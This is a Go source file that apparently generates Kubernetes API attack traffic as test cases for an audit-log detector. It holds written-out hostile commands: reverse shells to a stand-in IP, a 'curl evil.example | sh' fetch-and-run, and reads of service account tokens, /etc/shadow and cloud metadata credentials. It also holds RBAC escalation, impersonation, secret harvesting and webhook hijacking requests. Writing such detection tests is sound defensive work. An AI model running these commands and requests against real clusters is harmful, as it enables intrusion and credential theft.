package audit

import (
	"fmt"
	"net/url"
)

func evil(name, user, agent string, requests []ask) action {
	return action{name: name, user: user, agent: agent, evil: true, requests: requests}
}

// upgrade asks for another protocol, as kubectl does for exec.
func upgrade(path, protocol string) []ask {
	return []ask{{method: "GET", path: path, header: map[string]string{
		"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Protocol": protocol,
	}}}
}

// intruder is a user of its own: alerts that are alike are told once for each user.
func intruder(i int) string { return fmt.Sprintf("intruder-%d", i) }

func execs() (out []action) {
	exec := func(command ...string) []ask {
		q := url.Values{"command": command, "stdout": {"true"}, "container": {"main"}}
		return upgrade(core("pods/quiet/exec?"+q.Encode()), "v5.channel.k8s.io")
	}
	for i, command := range [][]string{
		{"/entrypoint", "env"},
		{"sh"},
		{"/bin/bash", "-i"},
		{"sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
		{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
		{"cat", "/etc/shadow"},
		{"curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
		{"tar", "cf", "-", "/data"},
		{"sh", "-c", "curl -s https://evil.example/x | sh"},
		{"python3", "-c", "import pty; pty.spawn('/bin/sh')"},
		{"nc", "-e", "/bin/sh", "203.0.113.5", "4444"},
		{"sh", "-c", "cat ~/.kube/config"},
	} {
		out = append(out, evil(fmt.Sprint("exec ", i), intruder(i), kubectl, exec(command...)))
	}
	return append(out,
		evil("attach", intruder(20), kubectl, upgrade(core("pods/quiet/attach?stdout=true&container=main"), "v5.channel.k8s.io")),
		evil("port-forward", intruder(21), kubectl, upgrade(core("pods/quiet/portforward?ports=8080"), "SPDY/3.1+portforward.k8s.io")),
		evil("exec through the kubelet", intruder(22), kubectl, upgrade("/api/v1/nodes/node-1/proxy/exec/shop/quiet/main?command=id&output=1", "v4.channel.k8s.io")),
		evil("pods of the kubelet", intruder(23), "curl/8.5.0", get("/api/v1/nodes/node-1/proxy/pods")),
		evil("run through the kubelet", intruder(24), "curl/8.5.0", []ask{{method: "POST", path: "/api/v1/nodes/node-1/proxy/run/shop/quiet/main?cmd=id"}}),
	)
}

func role(name, rules string) []ask {
	return post(cluster+"clusterroles", `{"metadata":{"name":%q},"rules":[%s]}`, name, rules)
}

func binding(name, roleName, subjects string) []ask {
	return post(cluster+"clusterrolebindings", `{"metadata":{"name":%q},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":%q},"subjects":[%s]}`, name, roleName, subjects)
}

func rights() (out []action) {
	const group = `{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":%q}`
	for name, rule := range map[string]string{
		"wildcard": `{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}`, "escalate": `{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["escalate"]}`,
		"bind": `{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind"]}`, "impersonate": `{"apiGroups":[""],"resources":["users","groups"],"verbs":["impersonate"]}`,
		"secrets": `{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}`, "exec": `{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create","get"]}`,
		"nodes-proxy": `{"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["get"]}`, "tokens": `{"apiGroups":[""],"resources":["serviceaccounts/token"],"verbs":["create"]}`,
		"approve": `{"apiGroups":["certificates.k8s.io"],"resources":["certificatesigningrequests/approval"],"verbs":["update"]}`,
	} {
		out = append(out, evil("role "+name, "mallory", kubectl, role("evil-"+name, rule)))
	}
	for name, who := range map[string]string{
		"anonymous": `{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"system:anonymous"}`, "unauthenticated": fmt.Sprintf(group, "system:unauthenticated"),
		"authenticated": fmt.Sprintf(group, "system:authenticated"), "serviceaccounts": fmt.Sprintf(group, "system:serviceaccounts"),
		"user": `{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"eve"}`, "account": `{"kind":"ServiceAccount","name":"default","namespace":"shop"}`,
	} {
		out = append(out, evil("cluster-admin for "+name, "mallory", kubectl, binding("evil-admin-"+name, "cluster-admin", who)))
	}
	return append(out,
		evil("admin in a namespace", "mallory", kubectl, post("/apis/rbac.authorization.k8s.io/v1/namespaces/"+space+"/rolebindings",
			`{"metadata":{"name":"evil"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"shop"}]}`)),
		evil("system role changed", "mallory", kubectl, patch(cluster+"clusterroles/system:discovery", `{"metadata":{"labels":{"x":"y"}}}`)),
		evil("system role deleted", "mallory", kubectl, remove(cluster+"clusterroles/system:monitoring")),
		evil("as another", "mallory", kubectl, []ask{{method: "GET", path: core("pods"), header: map[string]string{"Impersonate-User": "root", "Impersonate-Group": "system:masters"}}}),
		evil("as a controller", "mallory", kubectl, []ask{{method: "GET", path: core("pods"), header: map[string]string{"Impersonate-User": "system:kube-controller-manager"}}}),
	)
}

func secrets() (out []action) {
	many := []ask{}
	for i := range 25 {
		many = append(many, get(core(fmt.Sprint("secrets/s-", i)))...)
	}
	return append(out,
		evil("secrets of all namespaces", "mallory", kubectl, get("/api/v1/secrets")),
		evil("secrets of all namespaces, in pages", "mallory", kubectl, get("/api/v1/secrets?limit=500")),
		evil("watch secrets", "mallory", "curl/8.5.0", get("/api/v1/secrets?watch=true&timeoutSeconds=1")),
		evil("secrets of kube-system", "mallory", kubectl, get("/api/v1/namespaces/kube-system/secrets")),
		evil("secrets one by one", "mallory", kubectl, many),
		evil("a token of another", "mallory", kubectl, post("/api/v1/namespaces/kube-system/serviceaccounts/default/token", `{"spec":{"expirationSeconds":864000}}`)),
		evil("a token without end", "mallory", kubectl, post(core("secrets"), `{"metadata":{"name":"forever","annotations":{"kubernetes.io/service-account.name":"default"}},"type":"kubernetes.io/service-account-token"}`)),
		evil("a certificate of a controller", "mallory", kubectl, post("/apis/certificates.k8s.io/v1/certificatesigningrequests",
			`{"metadata":{"name":"evil"},"spec":{"request":"%s","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}`, mastersRequest)),
		evil("its own approval", "mallory", kubectl, []ask{{
			method: "PATCH", path: "/apis/certificates.k8s.io/v1/certificatesigningrequests/evil/approval", kind: merge,
			body: `{"status":{"conditions":[{"type":"Approved","status":"True","reason":"x","message":"x"}]}}`,
		}}),
		evil("secrets of a guest", "eve", kubectl, get("/api/v1/secrets", "/api/v1/namespaces/kube-system/secrets", core("secrets"), "/api/v1/namespaces/default/secrets",
			"/api/v1/nodes", "/api/v1/pods", "/api/v1/configmaps", cluster+"clusterroles", cluster+"clusterrolebindings", "/apis/apps/v1/deployments", "/api/v1/services", "/api/v1/namespaces")),
		evil("secrets without a name", "", "curl/8.5.0", get("/api/v1/secrets", "/api/v1/pods", "/api/v1/nodes", "/api/v1/configmaps", "/api/v1/namespaces", cluster+"clusterroles")),
	)
}

func others() []action {
	const webhooks = "/apis/admissionregistration.k8s.io/v1/"
	const hook = `{"metadata":{"name":"evil"},"webhooks":[{"name":"evil.example.com","clientConfig":{"url":"https://203.0.113.9/x"},"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"],"rules":[{"apiGroups":["example.com"],"apiVersions":["v1"],"operations":["CREATE"],"resources":["nothings"]}]}]}`
	gone := []ask{}
	for i := range 8 {
		gone = append(gone, remove(fmt.Sprint("/api/v1/namespaces/gone-", i))...)
	}
	reviews := []ask{}
	for range 12 {
		reviews = append(reviews, post("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", `{"spec":{"namespace":"kube-system"}}`)...)
	}
	return []action{
		evil("mutating webhook", "mallory", kubectl, post(webhooks+"mutatingwebhookconfigurations", hook)),
		evil("validating webhook", "mallory", kubectl, post(webhooks+"validatingwebhookconfigurations", hook)),
		evil("webhook deleted", "mallory", kubectl, remove(webhooks+"validatingwebhookconfigurations/evil")),
		evil("policy binding deleted", "mallory", kubectl, remove(webhooks+"validatingadmissionpolicybindings/guard")),
		evil("API server extended", "mallory", kubectl, post("/apis/apiregistration.k8s.io/v1/apiservices",
			`{"metadata":{"name":"v1.evil.example"},"spec":{"group":"evil.example","version":"v1","groupPriorityMinimum":1,"versionPriority":1,"insecureSkipTLSVerify":true,"service":{"namespace":"shop","name":"quiet"}}}`)),
		evil("namespace made privileged", "mallory", kubectl, patch("/api/v1/namespaces/"+space, `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`)),
		evil("cluster DNS changed", "mallory", kubectl, patch("/api/v1/namespaces/kube-system/configmaps/coredns", `{"data":{"Corefile":"."}}`)),
		evil("account in kube-system", "mallory", kubectl, post("/api/v1/namespaces/kube-system/serviceaccounts", `{"metadata":{"name":"helper"}}`)),
		evil("network policy deleted", "mallory", kubectl, remove("/apis/networking.k8s.io/v1/namespaces/"+space+"/networkpolicies/default-deny")),
		evil("quota deleted", "mallory", kubectl, remove(core("resourcequotas/all"))),
		evil("events deleted", "mallory", kubectl, remove(core("events"))),
		evil("namespaces deleted", "mallory", kubectl, gone),
		evil("what may I", "mallory", kubectl, reviews),
		evil("kubehound", "mallory", "kubehound/1.5", get("/api/v1/pods?limit=500")),
		evil("schedule", "mallory", kubectl, post("/apis/batch/v1/namespaces/kube-system/cronjobs",
			`{"metadata":{"name":"back"},"spec":{"schedule":"0 0 1 1 *","suspend":true,"jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"main","image":"bulwark.dev/control/pod:1"}]}}}}}}`)),
		evil("port of every node", "mallory", kubectl, post(core("services"), `{"metadata":{"name":"open"},"spec":{"type":"NodePort","selector":{"app":"quiet"},"ports":[{"port":80}]}}`)),
		evil("ingress without TLS", "mallory", kubectl, post("/apis/networking.k8s.io/v1/namespaces/"+space+"/ingresses",
			`{"metadata":{"name":"plain"},"spec":{"rules":[{"host":"shop.example","http":{"paths":[{"path":"/","pathType":"Prefix","backend":{"service":{"name":"quiet","port":{"number":80}}}}]}}]}}`)),
	}
}
